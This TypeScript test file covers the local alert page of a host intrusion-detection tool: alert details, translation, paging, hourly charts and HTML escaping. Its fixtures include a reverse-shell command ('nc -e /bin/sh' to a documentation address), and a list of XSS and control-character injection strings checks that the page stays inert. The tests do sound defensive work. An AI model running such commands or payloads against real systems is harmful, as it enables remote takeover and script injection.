import { createHash } from "node:crypto";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { SeverityName } from "../alerts/catalogue.ts";
import type { Finding } from "../detectors/detector.ts";
import { describe as describeFinding } from "../pipeline/describe.ts";
import { Status } from "../pipeline/status.ts";
import { hourly, totalOf } from "./chart.ts";
import { findingOf, findingsOf, type PastAlert } from "./finding.ts";
import { healthOf } from "./health.ts";
import { html } from "./html.ts";
import { alertsPerPage, type PageParts, page } from "./page.ts";
import { style, styleHash } from "./style.ts";

const now = Date.UTC(2026, 10, 24, 14, 30);
const device = { hostname: "plant-7", deviceId: "plant-7", moduleId: "vedette", hub: "hub" };

/** An alert as it was sent, in the history under this number. */
function past(number: number, finding: Partial<Finding> = {}, severity?: SeverityName, count?: number): PastAlert {
  const whole: Finding = {
    alert: "reverse-shell",
    at: now - 60_000,
    subject: "203.0.113.9",
    reason: "nc hands /bin/sh to 203.0.113.9",
    confidence: "high",
    evidence: {},
    ...finding,
  };
  const context = { device, version: "1.0.0", language: "en", redact: true } as const;
  const told = describeFinding({ ...whole, ...(severity && { severity }) }, { ...context, ...(count && { count }) });
  return { number, id: told.id, alert: JSON.parse(told.body) };
}

function rendered({
  past: kept = [],
  ...more
}: Partial<PageParts> & { past?: readonly PastAlert[] | null } = {}): string {
  const status = more.status ?? seeing();
  return page({
    status,
    health: healthOf(status, "1.0.0", now),
    device: "plant-7",
    observe: false,
    findings: kept === null ? undefined : findingsOf(kept),
    language: "en",
    before: undefined,
    now,
    ...more,
  });
}

function seeing(): Status {
  const status = new Status(now - 3_600_000);
  status.sourceReported({ kind: "source.reported", at: now, source: "accounts", state: "live", reason: "" });
  return status;
}

/** Tags with their attributes, as a browser would find them. */
function tags(text: string): string[] {
  return [...text.replace(style, "").matchAll(/<\/?([a-z][a-z0-9]*)\b[^>]*>/gi)].map(([tag]) => tag);
}

const hostile = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `' onmouseover='alert(1)`,
  `</code></dd></dl></style><style>*{display:none}</style>`,
  `&lt;b&gt; &amp; \${x} {{x}} <!-- --> ]]>`,
  `a\u202egnp.exe\u2066\u2069\u200b\u200f`,
  `a\u0000\u0007\u001b[31m\u009b31m\ufeff\ud800`,
  `two\nlines\r\nand\ttabs\u2028sep\u2029sep`,
  "x".repeat(1_000_000),
  `${"<".repeat(100_000)}`,
  `${"\u202e".repeat(100_000)}`,
  "مرحبا שלום",
];

describe("the local view", () => {
  test("shows an alert with its evidence, meaning and remediation", () => {
    const process = {
      pid: 4711,
      ppid: 4000,
      exe: "/usr/bin/nc",
      argv: ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
      uid: 33,
      user: "www-data",
      cwd: "/var/www",
      loginUid: 1000,
      ancestors: [
        { pid: 4000, exe: "/bin/sh", argv: ["sh"] },
        { pid: 900, exe: "/usr/sbin/apache2", argv: ["apache2"] },
      ],
    };
    const evidence = {
      process,
      container: { id: "c".repeat(64), name: "web", image: "shop:1", module: "web" },
      destination: { ip: "203.0.113.9", port: 4444 },
    };
    const text = rendered({ past: [past(1, { evidence })] });
    for (const shown of [
      "Reverse shell",
      "nc hands /bin/sh to 203.0.113.9",
      "nc -e /bin/sh 203.0.113.9 4444",
      "www-data (33)",
      "/var/www",
      "apache2 (900) → sh (4000)",
      "203.0.113.9:4444",
      "shop:1",
      "T1059.004",
      "What to do",
      "<code>alerts.reverse-shell.exceptions</code>",
      "1 alert in the last 24 hours",
      '<time class="when" datetime="2026-11-24T14:29:00.000Z">14:29:00</time>',
    ])
      expect(text).toContain(shown);
  });

  test("is Japanese where that is asked, and says so to the browser", () => {
    const text = rendered({ past: [past(1)], language: "ja" });
    expect(text).toContain('<html lang="ja">');
    expect(text).toContain("過去 24 時間のアラートは 1 件です");
    expect(text).toContain("対処");
    expect(text).not.toContain("What to do");
    expect(text).not.toContain("Reverse shell");
  });

  test("shows each source with what it cannot see and what to do about it", () => {
    const status = new Status(now - 3_600_000);
    status.sourceReported({
      kind: "source.reported",
      at: now,
      source: "audit-log",
      state: "absent",
      reason: "there is no audit.log",
      remedy: "install auditd",
    });
    status.sourceReported({ kind: "source.reported", at: now, source: "accounts", state: "live", reason: "" });
    const text = rendered({ status });
    for (const shown of ["there is no audit.log", "install auditd", "1 of 2 sources live", "edgeHub not connected"])
      expect(text).toContain(shown);
  });

  test("says when it is quiet, when nothing is kept, and when nothing is sent", () => {
    expect(rendered()).toContain("No alerts in the last 24 hours");
    expect(rendered({ past: null })).toContain("past alerts are not kept");
    expect(rendered({ observe: true })).toContain("Observe mode");
    expect(rendered({ observe: false })).not.toContain("Observe mode");
  });

  test("repeats of one finding are one line, with its newest count", () => {
    const first = past(1, {}, "high");
    const again = past(2, {}, "high", 7);
    const text = rendered({ past: [again, first] });
    expect(text.match(/<details>/g)).toHaveLength(1);
    expect(text).toContain("<em>7 times</em>");
    expect(text).toContain("1 alert in the last 24 hours");
  });

  test("gives a page at a time, and links to the next and back in the same language", () => {
    const many = Array.from({ length: 60 }, (_, i) => past(60 - i, { subject: `s${i}`, reason: `reason ${60 - i}.` }));
    const first = rendered({ past: many, language: "ja" });
    expect(first.match(/<details>/g)).toHaveLength(alertsPerPage);
    expect(first).toContain("reason 60.");
    expect(first).not.toContain("reason 35.");
    expect(first).toContain('href="/?lang=ja&amp;before=36#alerts"');
    const last = rendered({ past: many, before: 11 });
    expect(last.match(/<details>/g)).toHaveLength(10);
    expect(last).toContain("reason 10.");
    expect(last).not.toContain("before=");
    expect(last).toContain('href="/?lang=en#alerts"');
    expect(rendered({ past: many, before: 1 })).toContain("Nothing to show yet");
  });

  test("loads nothing, runs nothing, and its style is the one the policy allows", () => {
    const text = rendered({ past: [past(1)] });
    expect(text).not.toMatch(/<script|\son[a-z]+\s*=|javascript:|style="/i);
    for (const [, address] of text.matchAll(/(?:href|src|action)="([^"]*)"/g)) expect(address).toMatch(/^[/#](?!\/)/);
    expect(text).not.toMatch(/@import|url\(/i);
    const inside = /<style>([\s\S]*?)<\/style>/.exec(text)?.[1] ?? "";
    expect(`sha256-${createHash("sha256").update(inside).digest("base64")}`).toBe(styleHash);
  });

  test.each(hostile.map((text) => [text.slice(0, 40), text]))("is not broken by %j in any name", (_, name) => {
    const evidence = {
      process: {
        pid: 1,
        ppid: 0,
        exe: name,
        argv: ["x", name],
        user: name,
        cwd: name,
        ancestors: [{ pid: 2, exe: name, argv: [name] }],
      },
      container: { id: name, name, image: name, module: name },
      source: { ip: name, hostname: name, port: 1 },
      destination: { ip: name, port: 70_000 },
      file: { path: name },
      user: name,
      url: name,
      data: { [name]: name },
    };
    const alerts = pageful(past(1, { evidence, subject: name, reason: name } as unknown as Partial<Finding>));
    const status = new Status(now - 3_600_000);
    status.sourceReported({
      kind: "source.reported",
      at: now,
      source: "audit-log",
      state: "absent",
      reason: name,
      remedy: name,
    });
    status.hubReported({ state: "connecting", reason: name });
    const text = rendered({ past: alerts, status, device: name });
    const harmless = past(1, { evidence: plainEvidence } as unknown as Partial<Finding>);
    const plain = rendered({ past: pageful(harmless), status: plainStatus(), device: "d" });
    expect(new Set(tags(text).map(nameOf))).toEqual(new Set(tags(plain).map(nameOf)));
    expect(tags(text).filter((tag) => /\son|javascript/i.test(tag))).toEqual([]);
    expect(text).not.toMatch(/[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|(?![\n\t])\p{Cc}/u);
    expect(text.length).toBeLessThan(1_000_000);
  });

  test("whatever stands in the history, it is shown or left out, never a fault", () => {
    fc.assert(
      fc.property(fc.array(fc.record({ number: fc.nat(), id: fc.string(), alert: fc.jsonValue() })), (alerts) => {
        expect(rendered({ past: alerts as PastAlert[] })).toContain("</html>");
      }),
      { numRuns: 200 },
    );
    const odd = {
      time: 1e300,
      finding_info: { uid: 1, attacks: [null, { technique: [] }], created_time: -1 },
      evidences: [[]],
      count: -3,
    };
    expect(findingOf({ number: 1, id: "x", alert: odd })).toMatchObject({ uid: "x", time: 0, count: 1, title: "?" });
  });
});

const nameOf = (tag: string) => /[a-z0-9]+/i.exec(tag)?.[0];

/** A full page of findings that differ by their id only. */
function pageful({ alert }: PastAlert): PastAlert[] {
  const message = alert as { finding_info: object };
  return Array.from({ length: alertsPerPage }, (_, i) => ({
    number: alertsPerPage - i,
    id: `id${i}`,
    alert: { ...message, finding_info: { ...message.finding_info, uid: `uid${i}` } },
  }));
}

const plainEvidence = {
  process: {
    pid: 1,
    ppid: 0,
    exe: "/bin/x",
    argv: ["x"],
    user: "u",
    cwd: "/",
    ancestors: [{ pid: 2, exe: "/y", argv: ["y"] }],
  },
  container: { id: "c", name: "n", image: "i", module: "m" },
  source: { ip: "192.0.2.1", port: 1 },
  destination: { ip: "192.0.2.1", port: 2 },
  file: { path: "/f" },
  user: "u",
  url: "http://u/",
  data: {},
};

function plainStatus(): Status {
  const status = new Status(now - 3_600_000);
  status.sourceReported({
    kind: "source.reported",
    at: now,
    source: "audit-log",
    state: "absent",
    reason: "r",
    remedy: "r",
  });
  return status;
}

describe("the chart", () => {
  const at = (opened: number, severity: SeverityName = "high") =>
    past(1, { at: opened, subject: `${opened}${severity}` }, severity);

  test("counts findings by the hour in which they were opened, and no older ones", () => {
    const day = hourly(
      findingsOf([
        at(now),
        at(now - 1_800_000),
        at(now - 1_800_001, "low"),
        at(Date.UTC(2026, 10, 23, 15)),
        at(Date.UTC(2026, 10, 23, 15) - 1),
        at(now + 3_600_000),
      ]),
      now,
    );
    expect(day).toHaveLength(24);
    expect(new Date(day[0]?.from ?? 0).toISOString()).toBe("2026-11-23T15:00:00.000Z");
    expect(day.map(totalOf)).toEqual([1, ...Array(21).fill(0), 1, 2]);
    expect(day.at(-1)?.counts).toEqual({ informational: 0, low: 0, medium: 0, high: 2 });
  });
});

describe("a template", () => {
  test("makes every value harmless, and leaves what is markup", () => {
    const inner = html`<b>${"<i>"}</b>`;
    expect(html`<a title="${`"'&`}">${inner}${[inner, inner]}${false}${undefined}${0}</a>`.text).toBe(
      '<a title="&quot;&#39;&amp;"><b>&lt;i&gt;</b><b>&lt;i&gt;</b><b>&lt;i&gt;</b>0</a>',
    );
  });
});
